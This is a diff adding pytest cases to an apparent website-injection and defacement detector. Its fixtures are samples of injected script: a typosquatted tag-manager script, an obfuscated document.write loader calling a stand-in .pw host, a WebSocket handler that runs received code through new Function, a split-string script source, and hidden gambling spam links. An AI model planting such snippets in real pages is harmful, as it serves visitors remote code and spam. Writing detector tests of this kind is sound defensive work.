@@ -92,6 +92,42 @@ def test_the_manner_of_a_page_without_a_portal_around_it(body: str, code: str) -
     assert code not in codes(judge(page("Trang chủ", extra=body if code != "claim-line" else "")))
 
 
+@pytest.mark.parametrize(
+    ("piece", "code"),
+    [
+        ("<script src=https://www.googletagmanagar.com/gtm.js></script>", "script-odd"),
+        ("<script>document.write('<scr'+'ipt src=\"//a.example.pw/j.php\"></sc'+'ript>')</script>", "script-odd"),
+        ("<script>var s=new WebSocket(u);s.onmessage=function(e){new Function(e.data)()}</script>", "kit"),
+        ("<script>z.setAttribute('src',['ht','tps:','//a','.example'].join(''))</script>", "coded-src"),
+        (f"<div style='clip-path:inset(100%)'>{'<a href=https://x.example>soi cầu</a>' * 2}</div>", "gambling-hidden"),
+        (
+            f"<div style='color:#fff;font-size:1px'>{'<a href=https://x.example>soi cầu</a>' * 2}</div>",
+            "gambling-hidden",
+        ),
+    ],
+)
+def test_what_injectors_write_into_a_portal(piece: str, code: str) -> None:
+    assert code in codes(judge(page("Trang chủ", extra=piece)))
+    shown = piece.replace("&", "&amp;").replace("<", "&lt;")
+    assert judge(page("Bài 5: mã độc chèn vào trang", extra=f"<pre>{shown}</pre>")).verdict == "clean"
+
+
+def test_a_title_that_speaks_of_what_the_page_does_not() -> None:
+    titled = page("Trang chủ", TEXT * 4).replace("<title>Trang chủ", "<title>Slot Gacor Maxwin - Daftar Akun Pro")
+    assert judge(titled).verdict == "defaced"
+    assert "title-apart" in codes(judge(titled))
+    assert (
+        judge(page("Bahaya judi online dan togel", "Bupati mengimbau warga menjauhi judi online.")).verdict == "clean"
+    )
+
+
+def test_feeds_report_and_players_play() -> None:
+    assert judge("<?xml version='1.0'?><rss><channel><title>Website bị hack</title></channel></rss>").verdict == "clean"
+    assert judge("<body style='background:#000'><video src=/live.m3u8 autoplay controls></video>").verdict == "clean"
+    assert judge("<iframe srcdoc='&lt;h1&gt;Hacked by thu&lt;/h1&gt;'></iframe>").verdict == "defaced"
+    assert judge("<style>h1:before{content:'Hacked by thu crew'}</style><h1></h1>").verdict == "defaced"
+
+
 def test_a_picture_that_says_maintenance_is_no_bare_picture() -> None:
     assert judge("<title>Bảo trì hệ thống</title><img src=https://i.imgur.com/baotri.png>").verdict == "clean"
 
